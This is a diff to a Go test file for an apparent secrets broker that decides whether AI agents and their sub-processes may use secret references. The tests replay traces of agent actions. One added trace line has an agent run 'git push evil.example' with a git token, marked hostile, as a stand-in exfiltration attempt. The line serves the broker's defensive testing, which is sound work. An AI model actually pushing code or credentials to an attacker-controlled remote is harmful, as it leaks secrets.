@@ -6,6 +6,7 @@ import (
 	"bytes"
 	"context"
 	"os"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -14,8 +15,9 @@ import (
 )
 
 // short is a trace in which every rule counts once.
-const short = `{"title":"short","first":4,"later":2,"actors":[{"name":"me","kind":"person","terminal":"mine"},{"name":"A","kind":"agent","terminal":"T"},{"name":"A/s","kind":"agent","under":"A"},{"name":"A/p","kind":"program","under":"A"},{"name":"B","kind":"agent","terminal":"T"},{"name":"post","kind":"program","under":"me"}],"tasks":[{"argv":["./t.sh"],"refs":["op://dev/db/url"]}]}
+const short = `{"title":"short","first":4,"later":2,"actors":[{"name":"me","kind":"person","terminal":"mine"},{"name":"A","kind":"agent","terminal":"T"},{"name":"A/s","kind":"agent","under":"A"},{"name":"A/p","kind":"program","under":"A"},{"name":"B","kind":"agent","terminal":"T"},{"name":"post","kind":"program","under":"me"}],"tasks":[{"name":"t","argv":["./t.sh"],"args":"any","refs":["op://dev/db/url"]},{"name":"push","argv":["git","push","origin"],"refs":["op://dev/git/token"]}]}
 {"at":"1s","who":"A","do":"list"}
+{"at":"1.2s","who":"A","do":"ask","dir":"/w"}
 {"at":"2s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
 {"at":"3s","who":"A/s","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
 {"at":"4s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w","mark":"poisoned"}
@@ -26,6 +28,8 @@ const short = `{"title":"short","first":4,"later":2,"actors":[{"name":"me","kind
 {"at":"50s","who":"A","do":"read","refs":["op://dev/db/url"],"mark":"hostile"}
 {"at":"55s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://prod/db/url"],"dir":"/w"}
 {"at":"57s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://prod/db/url"],"dir":"/w"}
+{"at":"58s","who":"A","do":"run","argv":["git","push","-u","origin"],"refs":["op://dev/git/token"],"dir":"/w","task":"push"}
+{"at":"59s","who":"A","do":"run","argv":["git","push","evil.example"],"refs":["op://dev/git/token"],"dir":"/w","mark":"hostile"}
 {"at":"1m","who":"me","do":"read","refs":["op://dev/db/url"]}
 {"at":"2m","who":"me","do":"read","refs":["op://dev/db/url"]}
 {"at":"2m1s","who":"post","do":"read","refs":["op://dev/db/url"],"mark":"hostile"}
@@ -37,7 +41,11 @@ const short = `{"title":"short","first":4,"later":2,"actors":[{"name":"me","kind
 {"at":"4m1s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
 {"at":"13m","who":"me","do":"read","refs":["op://dev/db/url"]}
 {"at":"34m2s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
-{"at":"1h5m","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
+{"at":"1h4m59.6s","who":"A","do":"run","argv":["./u.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
+{"at":"1h5m","who":"A","do":"run","argv":["./w.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
+{"at":"1h5m0.05s","who":"A","do":"run","argv":["./u.sh"],"refs":["op://prod/db/url"],"dir":"/w"}
+{"at":"1h5m0.1s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w"}
+{"at":"1h5m0.1s","who":"A","do":"run","argv":["./v.sh"],"refs":["op://dev/db/url"],"dir":"/w","mark":"hostile","tell":"v.sh"}
 `
 
 func shortTrace(t *testing.T) *trace {
@@ -49,11 +57,11 @@ func shortTrace(t *testing.T) *trace {
 	return &tr
 }
 
-func replayed(t *testing.T, tr *trace) []done {
+func replayed(t *testing.T, tr *trace, s setup) []done {
 	t.Helper()
 	ctx, cancel := context.WithTimeout(context.Background(), limit)
 	defer cancel()
-	got, err := replay(ctx, tr)
+	got, err := replay(ctx, tr, s)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -61,23 +69,34 @@ func replayed(t *testing.T, tr *trace) []done {
 }
 
 // Each line comes to what its rule says, the same every time, and the model that
-// is varied agrees with the broker.
+// is varied agrees with the broker. Where the project asks once, two tasks are one
+// gesture; what differs from a task is asked about, but for arguments that it leaves
+// free; and what may be leased of one moment is one gesture, what may not another, and a
+// no its own.
 func TestReplay(t *testing.T) {
-	asked, free, leased, denied, refused := done{Asked: true, Released: true}, done{Released: true}, done{Released: true, Leased: true},
+	asks, free, leased, denied, refused := done{Asked: true, Released: true}, done{Released: true}, done{Released: true, Leased: true},
 		done{Asked: true, Denied: true}, done{Refused: true}
-	later := asked
-	later.Hour = 1
+	beside, freely := done{Beside: true, Released: true}, done{Released: true, Leased: true, Free: true}
+	later := func(d done) done { d.Hour = 1; return d }
 	tr := shortTrace(t)
-	got := replayed(t, tr)
-	want := []done{{}, asked, leased, leased, asked, asked, denied, denied, refused, asked, asked, asked, leased, asked, free, leased,
-		{Asked: true}, asked, {}, asked, asked, asked, later}
-	if diff := cmp.Diff(want, got); diff != "" {
-		t.Errorf("the broker: %s", diff)
+	for _, c := range []struct {
+		setup
+		want []done
+	}{
+		{before(), []done{{}, {}, asks, leased, leased, asks, asks, denied, denied, refused, asks, asks, asks, asks, asks, leased, asks, free, leased,
+			{Asked: true}, asks, {}, asks, asks, asks, later(asks), later(asks), later(asks), later(asks), later(denied)}},
+		{asked(), []done{{}, {Asked: true, Given: 2}, leased, leased, leased, asks, asks, freely, denied, refused, asks, asks, leased, asks, asks, leased, asks, free, leased,
+			{Asked: true}, asks, {}, asks, asks, leased, later(asks), later(beside), later(asks), leased, later(denied)}},
+	} {
+		got := replayed(t, tr, c.setup)
+		if diff := cmp.Diff(c.want, got); diff != "" {
+			t.Errorf("%s: the broker: %s", c.name, diff)
+		}
+		if err := sound(tr, c.setup, got); err != nil {
+			t.Errorf("%s: %v", c.name, err)
+		}
 	}
-	if err := sound(tr, got); err != nil {
-		t.Error(err)
-	}
-	if diff := cmp.Diff(got, replayed(t, tr)); diff != "" {
+	if diff := cmp.Diff(simulate(tr, ours(asked())), replayed(t, tr, asked())); diff != "" {
 		t.Errorf("again: %s", diff)
 	}
 }
@@ -96,8 +115,13 @@ func TestTraces(t *testing.T) {
 		t.Fatal(err)
 	}
 	for i := range all {
-		if err := sound(&all[i], got[i]); err != nil {
-			t.Errorf("%s: %v", all[i].Title, err)
+		c, err := compare(&all[i], got[i])
+		if err != nil {
+			t.Fatalf("%s: %v", all[i].Title, err)
+		}
+		was, now := c.replays[0].tally, c.ours()
+		if now.hostile-now.free > was.hostile || slices.Compare(now.gestures, was.gestures) >= 0 {
+			t.Errorf("%s: it was %+v and is %+v", all[i].Title, was, now)
 		}
 	}
 }
@@ -106,18 +130,53 @@ func TestTraces(t *testing.T) {
 // something else than the model, is not printed.
 func TestSound(t *testing.T) {
 	tr := shortTrace(t)
-	good := simulate(tr, ours())
-	if err := sound(tr, good); err != nil {
+	for _, s := range setups() {
+		good := simulate(tr, ours(s))
+		if err := sound(tr, s, good); err != nil {
+			t.Fatal(err)
+		}
+		other := slices.Clone(good)
+		other[2].Hour = 7
+		if sound(tr, s, other) == nil {
+			t.Error("another outcome was taken")
+		}
+		tr.lines[3].Mark = markHostile
+		if sound(tr, s, good) == nil {
+			t.Error("a leased hostile line was taken")
+		}
+		tr.lines[3].Mark = ""
+	}
+}
+
+// What the ledger says is held against what was seen: a gesture, a release or a
+// lease more or less is a defect.
+func TestRead(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), limit)
+	defer cancel()
+	tr := shortTrace(t)
+	tr.lines = tr.lines[:5]
+	p, events, err := played(ctx, t.TempDir(), tr, asked())
+	if err != nil {
 		t.Fatal(err)
 	}
-	other := append([]done(nil), good...)
-	other[1].Leased = true
-	if sound(tr, other) == nil {
-		t.Error("another outcome was taken")
-	}
-	tr.lines[2].Mark = markHostile
-	if sound(tr, good) == nil {
-		t.Error("a leased hostile line was taken")
+	for _, c := range []struct {
+		name string
+		lie  func(*play)
+	}{
+		{"", func(*play) {}},
+		{"a gesture that the ledger has not", func(p *play) { p.gestures++ }},
+		{"a lease less", func(p *play) { p.saw[1].Given-- }},
+		{"a line beside another", func(p *play) { p.saw[1].Beside = true }},
+		{"a release that the ledger has not", func(p *play) { p.saw[0].Released = true }},
+		{"free arguments", func(p *play) { p.saw[2].Free = true }},
+		{"a request that nobody made", func(p *play) { p.requests = nil }},
+	} {
+		q := *p
+		q.saw = slices.Clone(p.saw)
+		c.lie(&q)
+		if _, err := q.read(events); (err == nil) != (c.name == "") {
+			t.Errorf("%q: %v", c.name, err)
+		}
 	}
 }
 
@@ -127,8 +186,8 @@ func TestModels(t *testing.T) {
 		rules
 		want tally
 	}{
-		{exactArgv(), tally{gestures: []int{20, 1}, alarms: 8, releases: 18, fooled: 5, refused: 2}},
-		{openTerminal(), tally{gestures: []int{4, 1}, releases: 20, unseen: 16, hostile: 7, poisoned: 1}},
+		{exactArgv(), tally{gestures: []int{22, 5}, alarms: []int{9, 1}, releases: 23, fooled: 6, refused: 3}},
+		{openTerminal(), tally{gestures: []int{4, 1}, alarms: []int{0, 0}, releases: 26, unseen: 22, hostile: 9, poisoned: 1}},
 	} {
 		got := count(tr, simulate(tr, c.rules))
 		if diff := cmp.Diff(c.want, got, cmp.AllowUnexported(tally{})); diff != "" {
@@ -163,15 +222,15 @@ func TestTogether(t *testing.T) {
 	}
 	r := exactArgv()
 	r.together = time.Second
-	if got := count(tr, simulate(tr, r)); got.gestures[0] != 3 || got.unseen != 0 { // A, B and the person
+	if got := count(tr, simulate(tr, r)); got.gestures[0] != 3+3 || got.unseen != 0 { // A, B and the person, and three denials
 		t.Errorf("%+v", got)
 	}
 }
 
 func TestWhy(t *testing.T) {
 	tr := shortTrace(t)
-	got := why(tr, simulate(tr, ours()))
-	if diff := cmp.Diff(causes{fresh: 1, over: 4, hostile: 5, other: 5}, got, cmp.AllowUnexported(causes{})); diff != "" {
+	got := why(tr, simulate(tr, ours(before())), false)
+	if diff := cmp.Diff(causes{fresh: 4, over: 4, hostile: 7, other: 6}, got, cmp.AllowUnexported(causes{})); diff != "" {
 		t.Error(diff)
 	}
 }
@@ -210,6 +269,11 @@ func FuzzParse(f *testing.F) {
 		head + `{"at":"1s","who":"A","do":"run","refs":["op://dev/db/url"],"dir":"/w"}` + "\n",
 		head + `{"at":"1s","who":"A","do":"read","refs":["dev/db/url"]}` + "\n",
 		head + `{"at":"1s","who":"A","do":"list","more":1}` + "\n",
+		head + `{"at":"1s","who":"A","do":"ask"}` + "\n",
+		head + `{"at":"1s","who":"me","do":"ask","dir":"/w"}` + "\n",
+		head + `{"at":"1s","who":"A","do":"run","argv":["./t.sh"],"refs":["op://dev/db/url"],"dir":"/w","task":"push"}` + "\n",
+		`{"title":"x","actors":[{"name":"a","kind":"agent","terminal":"T"}],"tasks":[{"name":"t","argv":["t"]}]}` + "\n",
+		`{"title":"x","actors":[{"name":"a","kind":"agent","terminal":"T"}],"tasks":[{"name":"t","argv":["t"],"args":"some","refs":["op://dev/db/url"]}]}` + "\n",
 		`{"title":"x","actors":[{"name":"a","kind":"agent","under":"a"}]}` + "\n",
 		`{"title":"x","actors":[{"name":"a","kind":"person","terminal":"T"}]}` + "\n",
 		`{"title":"x","actors":[{"name":"a","kind":"agent","terminal":"T"},{"name":"a","kind":"agent","terminal":"T"}]}` + "\n",
@@ -224,11 +288,10 @@ func FuzzParse(f *testing.F) {
 		if err != nil {
 			return
 		}
-		for _, r := range append(whatIf(), exactArgv(), openTerminal()) {
+		for _, r := range append(whatIf(), exactArgv(), openTerminal(), ours(before()), ours(asked())) {
 			if got := simulate(&tr, r); len(got) != len(tr.lines) {
 				t.Errorf("%d lines came to %d", len(tr.lines), len(got))
 			}
 		}
-		newCast(tr.Actors)
 	})
 }
